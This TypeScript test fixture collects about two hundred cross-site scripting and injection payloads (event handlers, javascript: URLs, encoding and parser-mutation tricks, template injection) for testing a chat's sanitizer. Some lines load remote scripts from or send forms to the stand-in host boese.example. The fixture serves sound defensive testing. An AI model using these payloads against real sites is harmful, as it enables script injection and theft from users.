/**
 * Texts that become a program wherever somebody takes text for markup, for an address or for a template. Each calls
 * `trip()`, or asks something of `boese.example`, as soon as it is more than text. The ideas are those of the public
 * collections; the texts are our own.
 */
const HOST = 'boese.example';

/** Elements that run something by themselves; `%` is where the handler goes. */
const SELF_STARTERS = [
  '<img src=x onerror=%>',
  '<img src onerror=%>',
  '<img/src=x/onerror=%>',
  '<img src=x onerror\n=\n%>',
  '<img src="data:," onload="" onerror="%">',
  '<img srcset=x onerror=%>',
  '<image href=x onerror=%>',
  '<svg onload=%>',
  '<svg/onload=%//',
  '<svg><image href=x onerror=%></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><set onbegin=% attributeName=x>',
  '<svg><foreignObject><body onload=%></foreignObject></svg>',
  '<body onload=%>',
  '<body onpageshow=%>',
  '<input autofocus onfocus=%>',
  '<select autofocus onfocus=%>',
  '<textarea autofocus onfocus=%>',
  '<button autofocus onfocus=%>b</button>',
  '<a href=# tabindex=1 autofocus onfocus=%>a</a>',
  '<details open ontoggle=%><summary>s</summary></details>',
  '<video src=x onerror=%>',
  '<video><source onerror=%></video>',
  '<audio src=x onerror=%>',
  '<video poster=x onloadstart=% src=y>',
  '<marquee onstart=%>m</marquee>',
  '<object data=x onerror=%></object>',
  '<embed src=x onerror=%>',
  '<iframe onload=%></iframe>',
  '<iframe srcdoc="<svg onload=%>"></iframe>',
  '<link rel=stylesheet href=x onerror=%>',
  '<style onload=%></style>',
  '<script src=x onerror=%></script>',
  '<div style="animation-name:pop;animation-duration:1s" onanimationstart=%>d</div>',
  '<div style="transition:all 1s" ontransitionend=%>d</div>',
  '<dialog open onclose=%><form method=dialog></dialog>',
  '<div popover onbeforetoggle=%>p</div>',
  '<x contenteditable autofocus onfocus=%>x</x>',
  '<math><mi onpointerenter=%>m</mi></math>',
  '<xss oncontentvisibilityautostatechange=% style=display:block;content-visibility:auto>',
].map((shape) => shape.replace('%', () => 'trip()'));

const SCRIPTS = [
  '<script>trip()</script>',
  '<SCRIPT>trip()</SCRIPT>',
  '<ScRiPt >trip()</sCrIpT >',
  '<script\t>trip()</script\n>',
  '<script/x>trip()</script>',
  '<script>trip()//',
  '<script>trip()<!--',
  '<<script>trip()</script>',
  '<scr<script>ipt>trip()</scr</script>ipt>',
  '<script><script>trip()</script>',
  '</script><script>trip()</script>',
  '<script type=module>trip()</script>',
  '<script type=text/javascript defer>trip()</script>',
  `<script src=//${HOST}/x.js></script>`,
  `<script src=https://${HOST}/x.js async></script>`,
  `<script src=\\\\${HOST}\\x.js></script>`,
  '<script src=data:text/javascript,trip()></script>',
  '<script src="data:;base64,dHJpcCgp"></script>',
  '<svg><script>trip()</script></svg>',
  '<svg><script>trip&#40;&#41;</script></svg>',
  '<svg><script href=data:,trip() /></svg>',
  '<math><script>trip()</script></math>',
  '<script>eval("tr"+"ip()")</script>',
  '<script>import("data:text/javascript,trip()")</script>',
];

const ADDRESSES = [
  'javascript:trip()',
  'JaVaScRiPt:trip()',
  ' javascript:trip()',
  'java\tscript:trip()',
  'java\nscript:trip()',
  '\u0001javascript:trip()',
  'javascript://beispiel.test/%0atrip()',
  'javascript:/*--></title></style></textarea></script>*/trip()',
  'javascript&colon;trip()',
  '&#106;avascript:trip()',
  'view-source:javascript:trip()',
  'data:text/html,<script>trip()</script>',
  'data:text/html;base64,PHNjcmlwdD50cmlwKCk8L3NjcmlwdD4=',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="trip()"/>',
  'vbscript:trip()',
  'blob:https://boese.example/trip()',
  'filesystem:https://boese.example/trip()',
  'http://boese.example/"onmouseover="trip()',
  'https://boese.example/<script>trip()</script>',
  '<a href=javascript:trip()>a</a>',
  '<a href="java&#9;script:trip()">a</a>',
  '<a href="&#x1;javascript:trip()">a</a>',
  '<svg><a xlink:href=javascript:trip()><text>a</text></a></svg>',
  '<math href=javascript:trip()>m</math>',
  '<map><area href=javascript:trip() shape=default></map>',
  '<iframe src=javascript:trip()></iframe>',
  '<iframe src=javascript&colon;trip()></iframe>',
  '<object data=javascript:trip()></object>',
  '<embed src=javascript:trip()>',
  '<form action=javascript:trip()><button>b</button></form>',
  '<form><button formaction=javascript:trip()>b</button></form>',
  '<input type=image formaction=javascript:trip()>',
  '<meta http-equiv=refresh content="0;url=javascript:trip()">',
  `<meta http-equiv=refresh content="0;url=//${HOST}">`,
  `<base href=//${HOST}/>`,
  `<img src=//${HOST}/x.png>`,
  `<link rel=prefetch href=//${HOST}/x>`,
  `<a ping=//${HOST}/ href=#>a</a>`,
  `<form action=//${HOST}/ id=raus><input name=a></form>`,
  '[a](javascript:trip())',
  `![a](//${HOST}/x.png)`,
  '[url=javascript:trip()]a[/url]',
];

/** Ends what it is written into, and begins something of its own. */
const BREAKOUTS = [
  '"><img src=x onerror=trip()>',
  "'><img src=x onerror=trip()>",
  '`><img src=x onerror=trip()>',
  '" onmouseover="trip()" x="',
  "' onfocus='trip()' autofocus x='",
  '" autofocus onfocus=trip() //',
  ' onload=trip() ',
  '" style="animation-name:pop" onanimationstart="trip()',
  "';trip();//",
  '";trip();//',
  '\\";trip();//',
  "'-trip()-'",
  '"+trip()+"',
  ');trip();(',
  '*/trip()/*',
  '\u2028trip()//',
  '</textarea><svg onload=trip()>',
  '</title><svg onload=trip()>',
  '</style><svg onload=trip()>',
  '</noscript><svg onload=trip()>',
  '</template><svg onload=trip()>',
  '</iframe><svg onload=trip()>',
  '--><svg onload=trip()>',
  '--!><svg onload=trip()>',
  ']]><svg onload=trip()>',
  '<!--><svg onload=trip()>',
  '<![CDATA[><svg onload=trip()>',
  '<?xml ?><svg onload=trip()>',
  '</p></div></main></body></html><svg onload=trip()>',
];

/** Becomes markup when something is decoded once too often. */
const ENCODED = [
  '&lt;img src=x onerror=trip()&gt;',
  '&amp;lt;img src=x onerror=trip()&amp;gt;',
  '&#60;img src=x onerror=trip()&#62;',
  '&#x3c;img src=x onerror=trip()&#x3E;',
  '&#0000060img src=x onerror=trip()&#0000062',
  '&LT;svg onload=trip()&GT;',
  '&lt&sol;title&gt&lt;svg onload=trip()&gt;',
  '<img src=x onerror=&#116;rip()>',
  '<img src=x onerror=&#x74&#x72&#x69&#x70&#x28&#x29>',
  '%3Cimg%20src%3Dx%20onerror%3Dtrip()%3E',
  '%253Cimg%2520src%253Dx%2520onerror%253Dtrip()%253E',
  '%u003Cimg src=x onerror=trip()%u003E',
  '\\u003cimg src=x onerror=trip()\\u003e',
  '\\x3cimg src=x onerror=trip()\\x3e',
  '\\74img src=x onerror=trip()\\76',
  '+ADw-img src+AD0-x onerror+AD0-trip()+AD4-',
  '%C0%BCimg src=x onerror=trip()%C0%BE',
  'PGltZyBzcmM9eCBvbmVycm9yPXRyaXAoKT4=',
  '%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>trip()</script>',
  '%00<svg onload=trip()>',
];

/** Looks like a place to fill in, or like a name that a program has for itself. */
const TEMPLATES = [
  '{{constructor.constructor("trip()")()}}',
  "{{$on.constructor('trip()')()}}",
  '{{7*7}}',
  '{trip()}',
  '\x24{trip()}',
  '#{trip()}',
  '<%= trip() %>',
  '<?= trip() ?>',
  '@{trip()}',
  '[[\x24{trip()}]]',
  '{reason}',
  '{count, plural, one {<svg onload=trip()>} other {<svg onload=trip()>}}',
  "'{'<svg onload=trip()>'}'",
  '%s %d %o %c',
  "$& $1 $' $` $$",
  '__proto__',
  'constructor',
  '{"$$typeof":"react.element","type":"img","props":{"onError":"trip()"}}',
  '{"dangerouslySetInnerHTML":{"__html":"<svg onload=trip()>"}}',
  '<slot name=x onslotchange=trip()>',
];

/** Text that a parser writes down otherwise than it has read it. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=trip()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=trip()&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=trip()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=trip()>',
  '<svg><style><img src=x onerror=trip()></style></svg>',
  '<svg><title><svg onload=trip()></title></svg>',
  '<select><noscript></select><svg onload=trip()></noscript>',
  '<table><td><form><svg onload=trip()></form></td></table>',
  '<template shadowrootmode=open><svg onload=trip()></template>',
  '<xmp><p title="</xmp><svg onload=trip()>">',
  '<plaintext><svg onload=trip()>',
  '<listing>&lt;img src=x onerror=trip()&gt;</listing>',
  '<b><a><b><a><svg onload=trip()>',
  '<img alt="``onerror=trip()" src=x>',
  '<p id="a\'onclick=\'trip()">p</p>',
  '<form id=getElementById><input name=innerHTML></form>',
  '<a id=config href=tel:trip()>a</a><img name=body>',
];

/** Letters that turn into others, hide, or change the direction. */
const LETTERS = [
  '＜img src=x onerror=trip()＞',
  '﹤img src=x onerror=trip()﹥',
  '‹svg onload=trip()›',
  '<ſcript>trip()</ſcript>',
  '<ımg src=x onerror=trip()>',
  '<s\u200bcript>trip()</s\u200bcript>',
  '<scr\u00adipt>trip()</scr\u00adipt>',
  '\ufeff<svg onload=trip()>',
  '\u202e>)(pirt=daolno gvs<',
  '\u2066<svg onload=trip()>\u2069',
  '<svg\u00a0onload=trip()>',
  '<svg\u3000onload=trip()>',
  '<svg\u000bonload=trip()>',
  '<svg\u0000onload=trip()>',
  '<\u0000script>trip()</script>',
  '<svg onload=trip()>\ud800',
  '<e\u0301svg onload=trip()>',
  '<svg onload=trip\u2060()>',
  '\u{e003c}<svg onload=trip()>\u{e007f}',
  '👩\u200d💻<svg onload=trip()>',
];

const STYLES = [
  `<style>@import '//${HOST}/x.css';</style>`,
  `<style>*{background:url(//${HOST}/x.png)}</style>`,
  `<div style="background:url(//${HOST}/x.png)">d</div>`,
  '<div style="width:expression(trip())">d</div>',
  '<div style="position:fixed;inset:0;z-index:9999">d</div>',
  `<link rel=stylesheet href=//${HOST}/x.css>`,
  `<font face="x" background=//${HOST}/>f</font>`,
  'red;} body{display:none',
];

/** As somebody may send them. */
export const PAYLOADS: readonly string[] = [
  ...SELF_STARTERS,
  ...SCRIPTS,
  ...ADDRESSES,
  ...BREAKOUTS,
  ...ENCODED,
  ...TEMPLATES,
  ...MUTATIONS,
  ...LETTERS,
  ...STYLES,
];

/** A text as the chat keeps it: composed, no control characters, no halves of characters, nothing around it. */
export function asKept(text: string): string {
  return text
    .toWellFormed()
    .normalize('NFC')
    .replace(/\p{Cc}+/gu, ' ')
    .trim();
}

/** The same as everybody reads them, each once. */
export const TEXTS: readonly string[] = [...new Set(PAYLOADS.map(asKept))];

/** Every nth of them, over all kinds: for what is too slow to do two hundred times. */
export function someOf(payloads: readonly string[], nth: number): readonly string[] {
  return payloads.filter((_, index) => index % nth === 0);
}
